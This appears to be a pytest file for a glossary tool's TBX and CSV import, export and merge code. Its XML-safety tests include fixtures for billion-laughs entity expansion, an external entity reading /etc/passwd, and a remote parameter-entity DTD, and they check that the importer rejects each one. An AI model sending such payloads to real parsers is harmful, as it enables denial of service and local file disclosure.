"""Glossary interchange: TBX export/import (2008 and 2019 layouts), round trips, XML safety, merge, CSV."""

from __future__ import annotations

import csv
import hashlib
import io
import shutil
import tempfile
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from pipeline.core.errors import InputError
from pipeline.glossary import CATEGORIES, Glossary, load_glossary, validate
from pipeline.glossary.merge import merge_terms, write_glossary
from pipeline.glossary.tbx import (
    DNT_NOTE,
    export_csv,
    export_glossary,
    export_tbx,
    parse_reason_note,
    reason_note,
)
from pipeline.glossary.tbx_import import import_tbx
from pipeline.core.model import Forbidden, Rendering, Term

ROOT = Path(__file__).resolve().parents[2]
GLOSSARY = ROOT / "glossary"
NS = {"t": "urn:iso:std:iso:30042:ed-2"}
XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"


@pytest.fixture(scope="module")
def real() -> Glossary:
    return load_glossary(GLOSSARY)


@pytest.fixture(scope="module")
def real_tbx(real) -> bytes:
    return export_tbx(real)


def tbx_file(tmp_path: Path, text: str | bytes, name: str = "in.tbx") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode("utf-8") if isinstance(text, str) else text)
    return path


def entry(root: ET.Element, term_id: str) -> ET.Element:
    found = root.find(f".//t:conceptEntry[@id='{term_id}']", NS)
    assert found is not None, term_id
    return found


def term_secs(concept: ET.Element, lang: str) -> list[tuple[str, str, list[str]]]:
    """(term, administrativeStatus, notes) of each termSec of one language."""
    section = next((s for s in concept.findall("t:langSec", NS) if s.get(XML_LANG) == lang), None)
    assert section is not None, lang
    out = []
    for sec in section.findall("t:termSec", NS):
        status = sec.find("t:termNote[@type='administrativeStatus']", NS).text
        out.append((sec.find("t:term", NS).text or "", status, [n.text for n in sec.findall("t:note", NS)]))
    return out


# --------------------------------------------------------------------------- export


def test_export_is_tbx_basic_2019_with_the_documented_structure(real, real_tbx):
    assert real_tbx.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n')
    assert b'<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">' in real_tbx
    root = ET.fromstring(real_tbx)
    assert root.tag == "{urn:iso:std:iso:30042:ed-2}tbx" and root.get(XML_LANG) == "en"
    assert root.find("t:tbxHeader/t:fileDesc/t:sourceDesc/t:p", NS).text.startswith("Exported from")
    concepts = root.findall("t:text/t:body/t:conceptEntry", NS)
    assert [c.get("id").lstrip("_") for c in concepts] == [t.id for t in real.terms]

    khojaly = entry(root, "khojaly")
    assert khojaly.find("t:descrip[@type='subjectField']", NS).text == "place"
    assert [n.text for n in khojaly.findall("t:note", NS)] == [real["khojaly"].notes]
    assert [s.get(XML_LANG) for s in khojaly.findall("t:langSec", NS)] == ["en", "az", "ru", "tr"]
    en = term_secs(khojaly, "en")
    assert en[0] == ("Khojaly", "preferredTerm-admn-sts", [])
    assert ("Khodjaly", "deprecatedTerm-admn-sts", ["non-standard transliteration; use Khojaly; severity: error"]) in en
    az = term_secs(khojaly, "az")
    assert az[0][:2] == ("Xocalı", "preferredTerm-admn-sts")
    assert ("Xocali", "deprecatedTerm-admn-sts", ["missing dotless ı; use Xocalı; severity: error"]) in az

    # Variants and accepted renderings are admitted terms; warnings keep their severity.
    oic = entry(root, "oic")
    assert all(status == "admittedTerm-admn-sts" for _, status, _ in term_secs(oic, "en")[1:] if _ in real["oic"].variants)
    warned = [notes for _, status, notes in term_secs(oic, "en") if status == "deprecatedTerm-admn-sts"]
    assert warned and all(n[0].endswith("; severity: warning") for n in warned)

    # do-not-translate, case: exact and acronyms.
    bbc = entry(root, "bbc")
    assert [n.text for n in bbc.findall("t:note", NS)][1:] == [DNT_NOTE, "case: exact"]
    assert bbc.find("t:langSec/t:termSec/t:termNote[@type='termType']", NS).text == "acronym"
    assert entry(root, "khojaly").find(".//t:termNote[@type='termType']", NS) is None

    # xsd:ID may not start with a digit.
    assert entry(root, "_366th-motorized-rifle-regiment") is not None


def test_export_is_deterministic_and_pretty_printed(real, real_tbx):
    assert export_tbx(real) == real_tbx
    assert b"\n      <conceptEntry id=" in real_tbx
    assert export_tbx(load_glossary(GLOSSARY)) == real_tbx


def test_export_glossary_knows_tbx_and_csv_only(real, real_tbx):
    assert export_glossary(real, "tbx") == real_tbx
    assert export_glossary(real, "csv") == export_csv(real).encode("utf-8")
    with pytest.raises(InputError, match="unknown format 'xlsx'; use one of: tbx, csv"):
        export_glossary(real, "xlsx")


# --------------------------------------------------------------------------- import: both layouts

MARTIF_2008 = """\
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">
<martif type="TBX-Basic" xml:lang="en-US">
  <martifHeader>
    <fileDesc><sourceDesc><p>From a CAT tool</p></sourceDesc></fileDesc>
    <encodingDesc><p type="XCSURI">TBXBasicXCSV02.xcs</p></encodingDesc>
  </martifHeader>
  <text>
    <body>
      <termEntry id="baku">
        <descripGrp><descrip type="subjectField">place</descrip></descripGrp>
        <note>Capital of Azerbaijan.</note>
        <langSet xml:lang="en-US">
          <tig>
            <term>Baku</term>
            <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote>
          </tig>
          <tig>
            <term>Baky</term>
            <termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote>
            <note>old transliteration; use Baku</note>
          </tig>
        </langSet>
        <langSet xml:lang="az">
          <ntig>
            <termGrp>
              <term>Bakı</term>
              <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote>
            </termGrp>
          </ntig>
        </langSet>
        <langSet xml:lang="ru"><tig><term>Баку</term></tig></langSet>
        <langSet xml:lang="tr">
          <tig><term>Bakü</term></tig>
          <tig><term>Baku</term><termNote type="administrativeStatus">supersededTerm-admn-sts</termNote></tig>
        </langSet>
      </termEntry>
      <termEntry id="TE-2">
        <descrip type="subjectField">Organisation</descrip>
        <langSet xml:lang="en"><tig><term>OSCE Minsk Group</term></tig><tig><term>Minsk Group</term></tig></langSet>
        <langSet xml:lang="ru"><tig><term>Минская группа ОБСЕ</term></tig></langSet>
      </termEntry>
    </body>
  </text>
</martif>
"""

TBX_2019 = """\
<?xml version="1.0" encoding="UTF-8"?>
<?xml-model href="TBX-Basic_DCA.sch" type="application/xml" schematypens="http://purl.oclc.org/dsdl/schematron"?>
<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">
  <tbxHeader><fileDesc><sourceDesc><p>hand-written</p></sourceDesc></fileDesc></tbxHeader>
  <text>
    <body>
      <conceptEntry id="heydar-aliyev-foundation">
        <descrip type="subjectField">organisation</descrip>
        <note>Runs "Justice for Khojaly".</note>
        <note>case: exact</note>
        <langSec xml:lang="en">
          <termSec>
            <term>Heydar <hi>Aliyev</hi> Foundation</term>
            <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote>
          </termSec>
          <termSec>
            <term>Heydar Foundation</term>
            <termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote>
            <note>truncated name; severity: warning</note>
          </termSec>
        </langSec>
        <langSec xml:lang="az">
          <termSec>
            <term>Heydər Əliyev Fondu</term>
            <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote>
          </termSec>
          <termSec>
            <term>Heydər Əliyev Vəqfi</term>
            <termNote type="administrativeStatus">admittedTerm-admn-sts</termNote>
          </termSec>
        </langSec>
        <langSec xml:lang="pt-BR">
          <termSec><term>Fundação Heydar Aliyev</term></termSec>
        </langSec>
      </conceptEntry>
      <conceptEntry id="_1992">
        <descrip type="subjectField">event</descrip>
        <note>do not translate</note>
        <langSec xml:lang="en"><termSec><term>1992</term></termSec></langSec>
      </conceptEntry>
    </body>
  </text>
</tbx>
"""


def test_import_reads_the_2008_martif_layout(tmp_path):
    path = tbx_file(tmp_path, MARTIF_2008)
    baku, minsk = import_tbx(path)
    assert (baku.id, baku.category, baku.term, baku.variants) == ("baku", "place", "Baku", ())
    assert baku.forbidden == (Forbidden("Baky", "old transliteration; use Baku", "error"),)
    assert baku.notes == "Capital of Azerbaijan." and not baku.dnt and baku.case == "default"
    assert baku.renderings == {
        "az": Rendering("az", "Bakı"),
        "ru": Rendering("ru", "Баку"),
        "tr": Rendering("tr", "Bakü", (), (Forbidden("Baku", "", "warning"),)),
    }
    assert baku.source == str(path) and baku.line == 10
    # An id that is not a glossary id is dropped (merge matches by term); no status: preferred, then admitted.
    assert (minsk.id, minsk.category, minsk.term, minsk.variants) == ("", "organisation", "OSCE Minsk Group", ("Minsk Group",))
    assert minsk.renderings["ru"].text == "Минская группа ОБСЕ"


@pytest.mark.parametrize("namespaced", [True, False])
def test_import_reads_the_2019_layout_with_or_without_namespace(tmp_path, namespaced):
    text = TBX_2019 if namespaced else TBX_2019.replace(' xmlns="urn:iso:std:iso:30042:ed-2"', "")
    foundation, year = import_tbx(tbx_file(tmp_path, text))
    assert foundation.id == "heydar-aliyev-foundation" and foundation.category == "organisation"
    assert foundation.term == "Heydar Aliyev Foundation" and foundation.case == "exact"
    assert foundation.notes == 'Runs "Justice for Khojaly".'
    assert foundation.forbidden == (Forbidden("Heydar Foundation", "truncated name", "warning"),)
    assert foundation.renderings["az"] == Rendering("az", "Heydər Əliyev Fondu", ("Heydər Əliyev Vəqfi",))
    assert foundation.renderings["pt_BR"] == Rendering("pt_BR", "Fundação Heydar Aliyev")
    assert foundation.line == 7
    assert (year.id, year.dnt, year.renderings, year.notes) == ("1992", True, {}, "")


def test_imported_forms_remember_their_tbx_line(tmp_path):
    foundation, _ = import_tbx(tbx_file(tmp_path, TBX_2019))
    assert foundation.lines[("", "term", "Heydar Aliyev Foundation")] == 13
    assert foundation.lines[("", "forbidden", "Heydar Foundation")] == 17
    assert foundation.lines[("az", "accepted", "Heydər Əliyev Vəqfi")] == 28


# --------------------------------------------------------------------------- round trips


def test_round_trip_of_the_real_glossary_keeps_all_117_entries(real, real_tbx, tmp_path):
    imported = import_tbx(tbx_file(tmp_path, real_tbx))
    assert len(real) == 117 and len(imported) == 117
    for original, back in zip(real.terms, imported):
        assert back == original, original.id
        assert back.renderings == original.renderings  # part of ==; explicit anyway
    # Everything TBX carries made it: the glossary has each kind of data, and so does the import.
    assert sum(len(t.forbidden) for t in imported) == sum(len(t.forbidden) for t in real.terms) > 0
    assert {f.severity for t in imported for f in t.forbidden} == {"error", "warning"}
    assert {t.id for t in imported if t.dnt} == {t.id for t in real.terms if t.dnt} != set()
    assert {t.id for t in imported if t.case == "exact"} == {t.id for t in real.terms if t.case == "exact"} != set()
    assert any(r.forbidden for t in imported for r in t.renderings.values())
    # ...and exporting the import gives the same bytes (the header's version aside).
    again = export_tbx(Glossary(tuple(imported), version=real.version))
    assert again == real_tbx


_CHARS = st.characters(blacklist_categories=("Cc", "Cs", "Cn"))
_TEXT = st.text(_CHARS, min_size=1, max_size=10).map(str.strip).filter(bool)
_NOTE = st.one_of(st.just(""), _TEXT, st.builds(lambda a, b: f"{a}\n{b}", _TEXT, _TEXT))
_SEVERITY = st.sampled_from(("error", "warning"))
_FORBIDDEN = st.builds(Forbidden, _TEXT, st.one_of(st.just(""), _TEXT, st.builds(lambda r: f"{r}; severity: error", _TEXT)), _SEVERITY)
_RENDERING = st.tuples(st.one_of(st.just(""), _TEXT), st.lists(_TEXT, max_size=2), st.lists(_FORBIDDEN, max_size=2))
_ID = st.from_regex(r"[a-z0-9]{1,6}(-[a-z0-9]{1,4}){0,2}", fullmatch=True)


@st.composite
def glossaries(draw) -> Glossary:
    ids = draw(st.lists(_ID, min_size=1, max_size=4, unique=True))
    terms = []
    for term_id in ids:
        notes = draw(_NOTE)
        assume(" ".join(notes.split()).casefold() not in (DNT_NOTE, "case: exact"))
        codes = draw(st.lists(st.sampled_from(("az", "ru", "tr", "pt_BR", "sr_Latn")), max_size=3, unique=True))
        renderings = {}
        for code in codes:
            text, accepted, forbidden = draw(_RENDERING)
            renderings[code] = Rendering(code, text, tuple(accepted), tuple(forbidden))
        terms.append(
            Term(
                id=term_id,
                category=draw(st.sampled_from(CATEGORIES)),
                term=draw(_TEXT),
                variants=tuple(draw(st.lists(_TEXT, max_size=3))),
                forbidden=tuple(draw(st.lists(_FORBIDDEN, max_size=3))),
                notes=notes,
                dnt=draw(st.booleans()),
                renderings=renderings,
                case=draw(st.sampled_from(("default", "exact"))),
            )
        )
    return Glossary(tuple(terms))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(glossaries())
def test_round_trip_of_generated_glossaries(glossary):
    with tempfile.TemporaryDirectory() as directory:
        path = Path(directory) / "g.tbx"
        path.write_bytes(export_tbx(glossary))
        assert import_tbx(path) == list(glossary.terms)


@given(st.builds(Forbidden, _TEXT, st.one_of(st.just(""), st.text(_CHARS, max_size=30)), _SEVERITY))
def test_reason_note_round_trips(item):
    assert parse_reason_note(reason_note(item)) == (item.reason, item.severity)


# --------------------------------------------------------------------------- bad input


@pytest.mark.parametrize(
    "text, line, expected",
    [
        ("<tbx>\n  <text>\n    <body>\n      <conceptEntry id='a'>\n  </body>\n</tbx>\n", 5, "mismatched tag"),
        ("<tbx>\n<text>&nbsp;</text>\n</tbx>\n", 2, "undefined entity"),
        ("", 1, "no element found"),
        ("<?xml version='1.0'?>\n<tbx><a b='1' b='2'/></tbx>", 2, "duplicate attribute"),
    ],
)
def test_malformed_xml_is_an_input_error_with_the_line(tmp_path, text, line, expected):
    path = tbx_file(tmp_path, text)
    with pytest.raises(InputError) as info:
        import_tbx(path)
    error = info.value
    assert error.line == line and error.path == str(path)
    assert expected in str(error) and f"{path}:{line}: not well-formed XML" in str(error)
    assert "\n" not in str(error)


BILLION_LAUGHS = """\
<?xml version="1.0"?>
<!DOCTYPE tbx [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<tbx><text><body><conceptEntry id="x"><langSec xml:lang="en"><termSec><term>&lol3;</term></termSec></langSec>
</conceptEntry></body></text></tbx>
"""

EXTERNAL_ENTITY = """\
<?xml version="1.0"?>
<!DOCTYPE tbx [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<tbx><text><body><conceptEntry id="x"><langSec xml:lang="en"><termSec><term>&secret;</term></termSec>
</langSec></conceptEntry></body></text></tbx>
"""

PARAMETER_ENTITY = """\
<?xml version="1.0"?>
<!DOCTYPE tbx [ <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote; ]>
<tbx/>
"""

UNDECLARED_WITH_EXTERNAL_DTD = """\
<?xml version="1.0"?>
<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">
<martif><text><body><termEntry id="x"><langSet xml:lang="en"><tig><term>&ghost;</term></tig></langSet>
</termEntry></body></text></martif>
"""


@pytest.mark.parametrize(
    "text, line, expected",
    [
        (BILLION_LAUGHS, 3, "declares the XML entity 'lol'"),
        (EXTERNAL_ENTITY, 2, "declares the XML entity 'secret'"),
        (PARAMETER_ENTITY, 2, "declares the XML entity 'remote'"),
        (UNDECLARED_WITH_EXTERNAL_DTD, 3, "undeclared entity '&ghost;'"),
    ],
)
def test_entity_declarations_are_refused(tmp_path, text, line, expected):
    path = tbx_file(tmp_path, text)
    with pytest.raises(InputError) as info:
        import_tbx(path)
    assert info.value.line == line and expected in str(info.value)
    assert str(info.value).startswith(f"{path}:{line}: ")


@pytest.mark.parametrize(
    "text, line, expected",
    [
        (
            "<tbx><text><body>\n<conceptEntry id='lost'>\n<langSec xml:lang='az'><termSec><term>Xocalı</term></termSec>"
            "</langSec></conceptEntry></body></text></tbx>",
            2,
            "entry 'lost' has no English term",
        ),
        (
            "<tbx><text><body>\n\n<conceptEntry>\n<langSec xml:lang='en'><termSec><term> </term></termSec>"
            "</langSec></conceptEntry></body></text></tbx>",
            3,
            "entry at line 3 has no English term",
        ),
        (
            "<tbx><text><body><conceptEntry id='a'>\n<langSec><termSec><term>A</term></termSec></langSec>"
            "</conceptEntry></body></text></tbx>",
            2,
            "a language section has no xml:lang",
        ),
        ("<html>\n<body/></html>", 1, "not a TBX file: the root element is <html>"),
        ("<tbx>\n<text><body/></text></tbx>", 1, "has no entries"),
        (
            "<tbx><text><body>\n<conceptEntry id='a'><langSec xml:lang='en'><termSec><term>A</term></termSec></langSec>"
            "</conceptEntry>\n<conceptEntry id='a'><langSec xml:lang='en'><termSec><term>B</term></termSec></langSec>"
            "</conceptEntry></body></text></tbx>",
            3,
            "entry id 'a' is used twice (first at line 2)",
        ),
    ],
)
def test_bad_entries_are_input_errors_at_their_line(tmp_path, text, line, expected):
    path = tbx_file(tmp_path, text)
    with pytest.raises(InputError) as info:
        import_tbx(path)
    assert info.value.line == line and expected in str(info.value), str(info.value)


def test_a_missing_file_is_an_input_error(tmp_path):
    with pytest.raises(InputError, match="cannot read the file"):
        import_tbx(tmp_path / "missing.tbx")


# --------------------------------------------------------------------------- merge


def test_merging_the_own_export_changes_nothing(real, real_tbx, tmp_path):
    merged, report = merge_terms(real, import_tbx(tbx_file(tmp_path, real_tbx)))
    assert merged.terms == real.terms
    assert not report.changed and len(report.unchanged) == 117
    assert report.summary() == "0 added, 0 updated, 117 unchanged"


def _imported(term_id: str, term: str, category: str = "", **fields) -> Term:
    return Term(term_id, category, term, source="in.tbx", line=5, **fields)


RU_FORBIDDEN = Forbidden("Ходжало", "use Ходжалы")


def test_merge_keeps_existing_data_and_adds_new(real):
    old = real["khojaly"]
    imported = [
        _imported(
            "khojaly",
            "Khojaly",
            variants=("Khojaly town",),
            forbidden=(Forbidden("Hojaly", "Turkish spelling in English; use Khojaly", "warning"),),
            renderings={
                "az": Rendering("az", "Xocalı", ("Xocalı şəhəri",)),
                "ru": Rendering("ru", "Ходжалы", (), (RU_FORBIDDEN,)),
                "de": Rendering("de", "Chodschali"),
            },
        ),
        _imported("", "KHANKENDI"),  # matched by its English term, ignoring case
        _imported("nakhchivan", "Nakhchivan", "place", renderings={"az": Rendering("az", "Naxçıvan")}),
    ]
    merged, report = merge_terms(real, imported)
    new = merged["khojaly"]
    assert new.term == old.term and new.notes == old.notes and new.category == old.category
    assert new.variants == (*old.variants, "Khojaly town")
    assert new.forbidden[: len(old.forbidden)] == old.forbidden
    assert new.forbidden[-1] == Forbidden("Hojaly", "Turkish spelling in English; use Khojaly", "warning")
    assert new.renderings["az"].accepted == (*old.renderings["az"].accepted, "Xocalı şəhəri")
    assert new.renderings["az"].forbidden == old.renderings["az"].forbidden
    assert new.renderings["ru"].accepted == old.renderings["ru"].accepted
    assert new.renderings["ru"].forbidden == (*old.renderings["ru"].forbidden, RU_FORBIDDEN)
    assert new.renderings["tr"] == old.renderings["tr"]
    assert new.renderings["de"].text == "Chodschali"
    assert new.source == old.source and new.line == old.line  # still points at the YAML entry
    # The import's term wins; the old one stays as a variant.
    assert merged["khankendi"].term == "KHANKENDI" and merged["khankendi"].variants[-1] == "Khankendi"
    assert dict(report.updated)["khankendi"] == ("term 'Khankendi' -> 'KHANKENDI' (old kept as variant)",)
    assert merged.terms[-1].id == "nakhchivan" and merged["nakhchivan"].source == "in.tbx"
    assert [t.id for t in merged.terms[:-1]] == [t.id for t in real.terms]
    assert report.added == ("nakhchivan",)
    assert dict(report.updated)["khojaly"] == (
        "+variant 'Khojaly town'",
        "+forbidden 'Hojaly'",
        "+az accepted 'Xocalı şəhəri'",
        "+ru forbidden 'Ходжало'",
        "de rendering 'Chodschali' added",
    )
    assert report.summary() == "1 added, 2 updated, 115 unchanged"
    assert "added nakhchivan" in report.lines() and "updated khojaly: +variant 'Khojaly town'" in report.lines()


def test_merge_replaces_a_rendering_but_keeps_the_old_one_and_lets_the_import_decide_conflicts():
    old = Term(
        "x",
        "place",
        "Khojaly",
        variants=("Khojali",),
        forbidden=(Forbidden("Xodjaly", "no"),),
        notes="old",
        renderings={"az": Rendering("az", "Xocali", ("Xocalı kəndi",))},
    )
    new = Term(
        "x",
        "event",
        "Khojaly",
        variants=("Xodjaly",),
        forbidden=(Forbidden("Khojali", "misspelt", "warning"),),
        notes="new",
        dnt=True,
        case="exact",
        renderings={"az": Rendering("az", "Xocalı", (), (Forbidden("Xocalı kəndi", "a village"),))},
    )
    merged, report = merge_terms(Glossary((old,)), [new])
    term = merged["x"]
    assert (term.category, term.notes, term.dnt, term.case) == ("event", "new", True, "exact")
    assert term.variants == ("Xodjaly",) and term.forbidden == (Forbidden("Khojali", "misspelt", "warning"),)
    az = term.renderings["az"]
    assert (az.text, az.accepted, az.forbidden) == ("Xocalı", ("Xocali",), (Forbidden("Xocalı kəndi", "a village"),))
    changes = dict(report.updated)["x"]
    assert "category place -> event" in changes and "notes replaced" in changes
    assert "az rendering 'Xocali' -> 'Xocalı' (old kept as accepted)" in changes
    assert "'Khojali' now forbidden (was variant)" in changes and "'Xodjaly' now allowed (was forbidden)" in changes


def test_merge_never_unsets_flags_or_empties_fields():
    old = Term("x", "place", "X", notes="keep", dnt=True, case="exact", renderings={"az": Rendering("az", "İks")})
    merged, report = merge_terms(Glossary((old,)), [Term("x", "", "X", renderings={"az": Rendering("az", "")})])
    assert merged["x"] == old and not report.changed


def test_merge_refuses_a_new_entry_without_category_and_two_entries_for_one(real):
    with pytest.raises(InputError) as info:
        merge_terms(real, [_imported("", "Shusha Declaration")])
    assert "new entry 'shusha-declaration' has no category" in str(info.value) and info.value.line == 5
    with pytest.raises(InputError, match="both match glossary entry 'khojaly'"):
        merge_terms(real, [_imported("khojaly", "Khojaly"), _imported("", "khojaly")])


def test_merge_into_no_glossary_gives_ids_to_entries_without_one():
    merged, report = merge_terms(None, [_imported("", "Nagorno-Karabakh", "place"), _imported("", "Şuşa", "place")])
    assert [t.id for t in merged.terms] == ["nagorno-karabakh", "susa"] and report.added == ("nagorno-karabakh", "susa")


# --------------------------------------------------------------------------- writing the merge


def _snapshot(directory: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(directory.iterdir())}


def test_write_rewrites_only_the_files_that_changed_and_the_result_loads(tmp_path):
    directory = tmp_path / "glossary"
    shutil.copytree(GLOSSARY, directory)
    before = load_glossary(directory)
    snapshot = _snapshot(directory)
    imported = [
        _imported("khojaly", "Khojaly", renderings={"az": Rendering("az", "Xocalı", ("Xocalı şəhəri",))}),
        _imported(
            "nakhchivan",
            "Nakhchivan",
            "place",
            renderings={"az": Rendering("az", "Naxçıvan"), "ru": Rendering("ru", "Нахчыван"), "tr": Rendering("tr", "Nahçıvan")},
        ),
    ]
    merged, _ = merge_terms(before, imported)
    assert validate(merged, ("az", "ru", "tr")) == []
    written = write_glossary(merged, directory, before)
    assert [p.name for p in written] == ["places.yaml"]
    after = _snapshot(directory)
    assert {k for k in after if after[k] != snapshot.get(k)} == {"places.yaml"}
    again = load_glossary(directory)
    assert sorted(again.terms, key=lambda t: t.id) == sorted(merged.terms, key=lambda t: t.id)
    assert again["nakhchivan"].source.endswith("places.yaml")
    # Nothing left to change: nothing is written.
    assert write_glossary(*merge_terms(again, imported)[:1], directory, again) == []


def test_write_without_a_glossary_dumps_one_file_per_category(tmp_path):
    merged, _ = merge_terms(None, [_imported("", "Baku", "place"), _imported("", "Ilham Aliyev", "person")])
    written = write_glossary(merged, tmp_path / "new")
    assert sorted(p.name for p in written) == ["people.yaml", "places.yaml"]
    assert [t.id for t in load_glossary(tmp_path / "new").terms] == ["ilham-aliyev", "baku"]


# --------------------------------------------------------------------------- CSV


def test_csv_has_a_header_and_one_row_per_entry(real):
    text = export_csv(real)
    assert text == export_csv(real)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 117 and list(rows[0]) == [
        "id",
        "category",
        "term",
        "variants",
        "forbidden",
        "case",
        "notes",
        "dnt",
        "az",
        "az accepted",
        "az forbidden",
        "ru",
        "ru accepted",
        "ru forbidden",
        "tr",
        "tr accepted",
        "tr forbidden",
    ]
    khojaly = next(r for r in rows if r["id"] == "khojaly")
    assert khojaly["term"] == "Khojaly" and khojaly["category"] == "place" and khojaly["dnt"] == "false"
    assert khojaly["forbidden"].startswith("Khodjaly (error: non-standard transliteration; use Khojaly) | Khojali")
    assert khojaly["az"] == "Xocalı" and khojaly["ru"] == "Ходжалы" and khojaly["tr"] == "Hocalı"
    assert khojaly["notes"] == real["khojaly"].notes
    oic = next(r for r in rows if r["id"] == "oic")
    assert oic["variants"].split(" | ") == list(real["oic"].variants)
    assert next(r for r in rows if r["id"] == "bbc")["dnt"] == "true"
